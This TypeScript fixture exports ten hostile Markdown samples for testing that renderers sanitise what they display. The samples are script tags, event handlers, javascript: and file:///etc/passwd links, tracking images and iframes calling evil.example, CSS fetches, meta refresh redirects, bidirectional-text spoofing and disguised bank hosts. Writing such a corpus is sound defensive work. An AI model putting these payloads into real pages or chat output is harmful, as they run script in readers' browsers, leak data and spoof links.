// Ten texts that try to do something to whoever reads them: a corpus for tests of every place that shows Markdown.

export interface HostileText {
  name: string;
  text: string;
}

export const HOSTILE_MARKDOWN: readonly HostileText[] = [
  {
    name: 'script elements',
    text: 'Before <script>window.pwned = 1</script> after\n\n<script src="https://evil.example/a.js"></script>\n\n<SCRIPT\n>pwned()</SCRIPT\n>',
  },
  {
    name: 'event handlers',
    text: '<div onclick="pwned()" onmouseover=pwned()>hover</div> <b onfocus="pwned()" tabindex=1 autofocus>x</b>\n\n<details open ontoggle=pwned()>y</details>',
  },
  {
    name: 'javascript: and file: links',
    text: '[a](javascript:pwned()) [b](JaVaScRiPt:pwned()) [c](file:///etc/passwd) [d](java&#10;script:pwned()) <javascript:pwned()> [e][ref]\n\n[ref]: vbscript:pwned()',
  },
  {
    name: 'remote images',
    text: '![track](https://evil.example/pixel.png?secret=1) ![x](http://evil.example/y.gif "t") <img src="https://evil.example/z.png"> ![d](data:image/svg+xml;base64,PHN2Zz4=)\n\n[![inner](https://evil.example/i.png)](https://evil.example/)',
  },
  {
    name: 'frames and embeds',
    text: '<iframe src="https://evil.example"></iframe><object data="https://evil.example/a.swf"></object>\n\n<embed src="https://evil.example/b">\n\n<video autoplay src="https://evil.example/c.mp4"></video>',
  },
  {
    name: 'styles that fetch or cover',
    text: '<style>body{background:url(https://evil.example/css)}</style>\n\n<p style="position:fixed;inset:0;background:url(https://evil.example/x)">over</p>\n\n<link rel="stylesheet" href="https://evil.example/s.css">\n\n$\\htmlStyle{position:fixed;inset:0}{x}$ $$\\rule{9999em}{9999em}$$',
  },
  {
    name: 'text that runs the other way',
    text: '\u202Egnp.exe\u202C [https://bank.example\u202E](https://evil.example/\u2066\u2069) `\u2067code\u2069` \u200Ffine',
  },
  {
    name: 'svg and MathML with handlers',
    text: '<svg onload="pwned()"><a xlink:href="javascript:pwned()"><text>x</text></a></svg>\n\n<math href="javascript:pwned()">y</math>\n\n$\\href{javascript:pwned()}{z}$ $\\includegraphics{https://evil.example/k.png}$',
  },
  {
    name: 'forms and refreshes',
    text: '<form action="https://evil.example"><input name=q value=1><button formaction="javascript:pwned()">go</button></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<base href="https://evil.example/">',
  },
  {
    name: 'data: pages and disguised hosts',
    text: '[page](data:text/html,<script>pwned()</script>) [bank](https://bank.example@evil.example/) [https://bank.example](https://evil.example/login) [blob](blob:https://evil.example/1) [x](//evil.example/y) [k](https://xn--bnk-6na.example/)',
  },
];
